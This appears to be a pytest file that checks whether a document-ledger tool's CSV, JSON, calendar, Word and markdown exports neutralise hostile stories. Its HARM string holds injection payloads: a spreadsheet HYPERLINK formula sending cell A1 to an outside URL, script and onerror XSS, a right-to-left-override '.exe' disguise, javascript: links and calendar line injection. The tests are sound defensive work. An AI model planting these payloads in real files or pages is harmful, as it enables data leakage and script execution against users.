"""Every form in which a ledger can be taken elsewhere, on stories that mean harm: they stay words, and programs get all of them."""

from __future__ import annotations

import csv
import datetime
import html
import io
import json
import re
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from icalendar import Calendar
from tests.fake_reader import FakeReading, statement

from communique.cli.viewing import CSV, DOCX, ICS
from communique.export.csv import listed, plain
from communique.export.csv import write as write_csv
from communique.export.jsonl import as_json
from communique.export.table import FORMATS, writer
from communique.kinds.table import KINDS
from communique.ledger import Ledger
from communique.model.documents import Document, Sighting
from communique.model.harmless import STEERING
from communique.sources.story import Story
from communique.views.board import board, board_page
from communique.views.brief import brief
from communique.views.brief_page import brief_page
from communique.views.calendar import calendar, calendar_page
from communique.views.conflicts import conflicts, conflicts_page
from communique.views.events import ics
from communique.views.page import FORMATS as PAGES
from communique.views.page import Page, markdown, text
from communique.views.page_docx import docx
from communique.views.register import register, register_page
from communique.views.rows import Row
from communique.views.timeline import timeline, timeline_page
from communique.views.words import load_words
from communique.world.load import load_world

DAY = datetime.date(2022, 1, 1)
HARM = (
    '=HYPERLINK("http://example.org/?"&A1,"x");=1+1 <script>alert(1)</script></script> ‮gnp.exe‬ \x1b[31m\x07 \x85\u2028 '
    '"; @SUM(1) | \\ & <img src=x onerror=alert(1)> ]]> --> `x` [a](javascript:b) \r\nBEGIN:VEVENT\r\nSUMMARY:x\n# no heading'
)
STARTS = ("", "=", "+", "-", "@", "\t=", "\r=", "\u202e=", "'", " =", "＝", ";=", "long é " * 2000)
WORDS = [load_words(code, load_world()) for code in ("en", "fr")]
_STEERING = re.compile(f"[{STEERING}]")
_MARKUP = re.compile(r"(?<!\\)<(?:script|img|/script)", re.IGNORECASE)


class Reader:
    """Finds in every story what it was told to, with all words of the story as evidence, name, undertaking and speaker."""

    version = "hostile 1"

    def read_all(self, stories: Any) -> list[FakeReading]:
        return [FakeReading(tuple(self._found(document)), (), self.version) for document, _ in stories]

    def _found(self, document: Document) -> Iterator[Any]:
        all_, said = document.text, {"speaker": document.text}
        due = f"2022-0{len(all_) % 3 + 3}-01"
        sides = {"by": ("RUS",), "to": ("ASEAN", f"VNM:{all_}")}
        kinds = {
            "meeting": {"by": ("RUS", "ASEAN"), "type": "talks", "status": "scheduled", "when": "2022-02-01", "where": all_},
            "agreement": {"by": ("RUS", "ASEAN"), "type": "mou", "status": "signed", "when": "2020-12-01", "due": due, "name": all_},
            "commitment": {**sides, "type": "pledged", "due": "2022-06-01", "what": all_},
            "position": {**sides, "type": "calls_for", "what": all_},
        }
        for kind, fields in kinds.items():
            yield statement(document, (0, len(all_)), KINDS[kind](**fields), {}, **said)


@pytest.fixture(scope="module")
def ledger() -> Iterator[Ledger]:
    with Ledger.open(":memory:", reader=Reader()) as opened:  # type: ignore[arg-type]
        stories = []
        for at, start in enumerate(STARTS):
            document = Document.of(start + HARM, language="fr")
            url = f"javascript://example.org/%0Aalert(1)//{HARM}"
            seen = {"name": f"{start}{at}{HARM}", "publisher": start + HARM, "title": start + HARM, "author": start + HARM}
            stories.append(Story(document, Sighting(document.id, url=url, published="2021-01-01", **seen), "here"))
        assert opened.read(stories).new == len(STARTS)
        first = next(opened.statements())
        opened.judge("accept", first.id, by=HARM, why="=" + HARM)
        yield opened


def texts_of(value: Any) -> Iterator[str]:
    """All texts in a value of JSON."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict | list):
        for one in value.values() if isinstance(value, dict) else value:
            yield from texts_of(one)


def harmless_json(data: bytes) -> set[str]:
    told = data.decode("utf-8")
    assert not _STEERING.search(told.replace("\n", "")) and not set(told) & set("<>&")
    lines = told.splitlines() if told[:1] == "{" and told[1:11] != '"@context"' else [told]
    return {one for line in lines for one in texts_of(json.loads(line))}


def harmless_csv(data: bytes) -> set[str]:
    told = data.decode("utf-8")
    assert not _STEERING.search(told.replace("\r\n", ""))
    header, *rows = csv.reader(io.StringIO(told, newline=""))
    assert rows and {len(row) for row in rows} == {len(header)}
    assert told.count("\r\n") == len(rows) + 1  # a line a row, whatever was in its cells
    for piece in (piece for row in rows for cell in row for piece in (cell, *cell.split(";"))):
        assert not re.match(r"[\s\"]*[=+\-@＝]", piece) or re.fullmatch(r"-?[\d.]+", piece)
    return {found for row in rows for cell in row for found in (plain(cell), *listed(cell))}


READ: dict[str, Callable[[bytes], set[str]]] = {"jsonl": harmless_json, "jsonld": harmless_json, "csv": harmless_csv}
"""How each form of export is judged and read: a new form needs a line here."""


def test_no_form_goes_untried() -> None:
    assert set(READ) == set(FORMATS)
    assert set(PAGES) | {CSV, ICS, DOCX} == {"text", "markdown", "json", "csv", "ics", "docx"}


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("what", ["statements", "records"])
def test_exports_are_harmless_and_whole(ledger: Ledger, form: str, what: str) -> None:
    stream = io.BytesIO()
    number = ledger.export(stream, form=form) if what == "statements" else ledger.export_records(stream, form=form, as_of=DAY)
    found = READ[form](stream.getvalue())
    assert number >= len(STARTS)
    if form != "csv" or what == "statements":  # a record's CSV holds its quotes as JSON
        assert {start + HARM for start in STARTS} <= found
    if form == "jsonld":
        assert not any(one.startswith("javascript:") for one in found)


VIEWS: dict[str, tuple[Callable[[Any], list[Row]], Callable[..., Page]]] = {
    "timeline": (timeline, timeline_page),
    "board": (board, board_page),
    "register": (register, register_page),
    "conflicts": (conflicts, conflicts_page),
    "calendar": (lambda found: calendar(found, {}), calendar_page),
    "brief": (lambda found: brief(found, ["RUS", "ASEAN"], load_world()), brief_page),
}


@pytest.fixture(scope="module")
def rows(ledger: Ledger) -> dict[str, list[Row]]:
    found = ledger.records(as_of=DAY)
    return {name: view(found) for name, (view, _) in VIEWS.items()}


@pytest.mark.parametrize("view", VIEWS)
def test_views_are_harmless(rows: dict[str, list[Row]], view: str) -> None:
    given = rows[view]
    assert given
    stream = io.BytesIO()
    write_csv(given, stream)
    harmless_csv(stream.getvalue())
    plainly = json.loads(json.dumps(given, default=list))
    assert harmless_json(as_json(given).encode("utf-8")) == set(texts_of(plainly)) and json.loads(as_json(given, indent=1)) == plainly
    for words in WORDS:
        page = VIEWS[view][1](given, words)
        for told in (text(page, words), markdown(page, words)):
            assert not _STEERING.search(told.replace("\n", ""))
        assert not _MARKUP.search(markdown(page, words)) and "](javascript" not in markdown(page, words).replace("\\]", "")
        harmless_docx(docx(page, words, on=DAY))


def harmless_docx(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        parts = {name: file.read(name).decode("utf-8") for name in file.namelist() if name.endswith((".xml", ".rels"))}
    for told in parts.values():
        assert not _STEERING.search(re.sub(r"[\n\r]", "", told)) and not _MARKUP.search(told) and "javascript:" not in re.sub(r">[^<]*<", "><", told)
    assert "script" in html.unescape(parts["word/document.xml"])


def test_the_calendar_is_harmless(rows: dict[str, list[Row]]) -> None:
    for words in WORDS:
        data = ics(rows["calendar"], words, on=DAY)
        told = data.decode("utf-8")
        assert not _STEERING.search(told.replace("\r\n", ""))
        assert all(len(line) <= 75 for line in data.split(b"\r\n"))
        events = Calendar.from_ical(data).walk("VEVENT")
        assert len(events) == told.count("\r\nBEGIN:VEVENT\r\n") == sum(bool(row["sharp"]) for row in rows["calendar"]) > 0
        assert any("HYPERLINK" in str(event["summary"]) + str(event["description"]) for event in events)
        assert all(set(event) == {"UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION"} for event in events)


def test_what_is_no_form() -> None:
    for form, what in (("xml", "statements"), ("jsonld", "rows")):
        with pytest.raises(ValueError, match="jsonl csv"):
            writer(form, what)
